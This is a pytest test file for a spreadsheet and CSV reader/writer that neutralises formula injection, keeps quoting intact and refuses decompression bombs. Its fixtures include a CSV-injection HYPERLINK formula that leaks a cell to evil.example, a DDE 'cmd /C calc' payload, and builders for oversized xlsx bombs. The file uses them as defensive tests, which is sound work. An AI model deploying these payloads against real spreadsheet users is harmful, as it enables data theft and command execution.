"""The one reader and writer of tables: formulas neutralised, quoting kept, bombs refused."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from qiangji.lib.tabular import (
    Sheet,
    TableError,
    csv_bytes,
    csv_stream,
    is_formula_like,
    read_table,
    write_xlsx,
    xlsx_bytes,
)

PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&A1,"点击")'


@pytest.mark.parametrize(
    "text", [PAYLOAD, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "＝1"]
)
def test_formula_like_text_stays_text_in_an_xlsx(text):
    data = xlsx_bytes(["name"], [[text]])
    sheet = load_workbook(io.BytesIO(data)).active
    cell = sheet["A2"]
    assert cell.data_type == "s"
    assert cell.value == text.replace("\r", "") or cell.value == text


def test_a_formula_payload_gets_an_apostrophe_in_a_csv_and_reads_back_unchanged():
    data = csv_bytes(["姓名", "分数"], [[PAYLOAD, -5], ["张三", "-1.5"]])
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[1][0] == "'" + PAYLOAD
    assert rows[1][1] == "-5"
    assert rows[2][1] == "-1.5"  # a negative number is a number, not a formula
    table = read_table(data, "x.csv")
    assert table.rows[0]["姓名"] == PAYLOAD


def test_numbers_written_as_text_are_not_formulas():
    assert not is_formula_like("-3.5")
    assert not is_formula_like("+86")
    assert is_formula_like("-3+cmd")
    assert is_formula_like("=1")


def test_the_streaming_csv_starts_with_a_bom_and_yields_line_by_line():
    chunks = list(csv_stream(["a"], iter([["1"], ["2"]])))
    assert chunks[0].startswith(b"\xef\xbb\xbf")
    assert len(chunks) == 3


def test_sheets_keep_lines_above_and_below_the_table():
    data = write_xlsx(
        [Sheet(title="签到/名单", before=[["标题"]], headers=["a"], rows=[["=1"]], after=[["注"]])]
    )
    sheet = load_workbook(io.BytesIO(data)).active
    assert [c.value for c in sheet["A"]] == ["标题", "a", "=1", "注"]
    assert sheet["A3"].data_type == "s"


# --- finding 6: csv.Sniffer's guessed quoting cut cells at their first quote ---------------
def test_a_cell_with_quotes_and_commas_written_by_the_csv_module_reads_back_whole():
    text = '居民说"电梯坏了,三天没修"，请尽快处理'
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(["编号", "内容"])
    writer.writerow(["1", text])
    table = read_table(buffer.getvalue().encode(), "x.csv")
    assert table.rows == [{"编号": "1", "内容": text}]


HEADER = (
    st.text(alphabet=st.characters(codec="utf-8", exclude_characters=',;\t"\r\n\x00'), min_size=1)
    .map(str.strip)
    .filter(bool)
)
CELL = st.text(
    alphabet=st.characters(codec="utf-8", exclude_categories=("Cs",), exclude_characters="\x00"),
    max_size=30,
).map(str.strip)


@st.composite
def tables(draw):
    width = draw(st.integers(1, 5))
    headers = draw(st.lists(HEADER, min_size=width, max_size=width, unique=True))
    rows = draw(
        st.lists(
            st.lists(CELL, min_size=width, max_size=width).filter(lambda r: any(r)), max_size=6
        )
    )
    return headers, rows


def _excel_style(headers, rows, delimiter):
    """Write as Excel's "CSV UTF-8" does: BOM, CRLF, quotes only where needed, "" inside."""

    def cell(value):
        if any(c in value for c in (delimiter, '"', "\r", "\n")):
            return '"' + value.replace('"', '""') + '"'
        return value

    lines = [delimiter.join(cell(v) for v in row) for row in [headers, *rows]]
    return ("\ufeff" + "\r\n".join(lines) + "\r\n").encode()


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(tables(), st.sampled_from([",", "\t", ";"]), st.booleans())
def test_any_table_written_by_the_csv_module_or_excel_reads_back_exactly(table, delimiter, excel):
    headers, rows = table
    if excel:
        data = _excel_style(headers, rows, delimiter)
    else:
        buffer = io.StringIO()
        csv.writer(buffer, delimiter=delimiter).writerows([headers, *rows])
        data = buffer.getvalue().encode()
    read = read_table(data, "t.csv")
    assert read.headers == headers
    assert [[r[h] for h in headers] for r in read.rows] == rows


def test_a_gbk_file_is_read():
    data = "名称,人口\n石榴园社区,8000\n".encode("gbk")
    assert read_table(data, "x.csv").rows == [{"名称": "石榴园社区", "人口": "8000"}]


# --- finding 7: decompression bombs ---------------------------------------------------------
def _with_sheet(xml: bytes) -> bytes:
    """Return a real workbook whose first sheet's XML is replaced by xml."""
    source = zipfile.ZipFile(io.BytesIO(xlsx_bytes(["a"], [["1"]])))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            body = xml if item.filename == "xl/worksheets/sheet1.xml" else source.read(item)
            target.writestr(item.filename, body)
    return out.getvalue()


def _sheet_xml(rows: bytes) -> bytes:
    return (
        b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org'
        b'/spreadsheetml/2006/main"><sheetData>' + rows + b"</sheetData></worksheet>"
    )


def test_a_workbook_with_millions_of_cells_is_refused_before_parsing():
    row = b"<row>" + b'<c t="n"><v>1</v></c>' * 100 + b"</row>"
    data = _with_sheet(_sheet_xml(row * 25_000))  # 2.5 million cells, ~50 MB of XML
    assert len(data) < 1_000_000
    with pytest.raises(TableError, match="cells|单元格"):
        read_table(data, "bomb.xlsx")


def test_a_workbook_with_one_cell_far_away_is_refused_before_parsing():
    xml = _sheet_xml(b'<row r="1048576"><c r="XFD1048576" t="n"><v>1</v></c></row>')
    with pytest.raises(TableError):
        read_table(_with_sheet(xml), "far.xlsx")


def test_a_workbook_that_expands_beyond_the_limit_is_refused(monkeypatch):
    row = b"<row>" + b'<c t="inlineStr"><is><t>' + b"x" * 2000 + b"</t></is></c></row>"
    data = _with_sheet(_sheet_xml(row * 2000))  # 4 MB of XML
    with pytest.raises(TableError, match="MB"):
        read_table(data, "big.xlsx", max_uncompressed=1024 * 1024)


def test_an_ordinary_workbook_is_read():
    data = xlsx_bytes(["名称", "代码"], [["石榴园", "001"], ["=1+1", ""]])
    table = read_table(data, "ok.xlsx")
    assert table.rows == [{"名称": "石榴园", "代码": "001"}, {"名称": "=1+1", "代码": ""}]


def test_a_chinese_file_names_ascii_fallback_keeps_its_dot_and_extension():
    from qiangji.lib.tabular import attachment_header

    header = attachment_header("石榴园社区-幸福石榴园-20261128.docx", fallback="plan")
    assert 'filename="plan-20261128.docx"' in header
    assert "filename*=UTF-8''%E7%9F%B3" in header
    assert 'filename="download.csv"' in attachment_header("结果.csv")
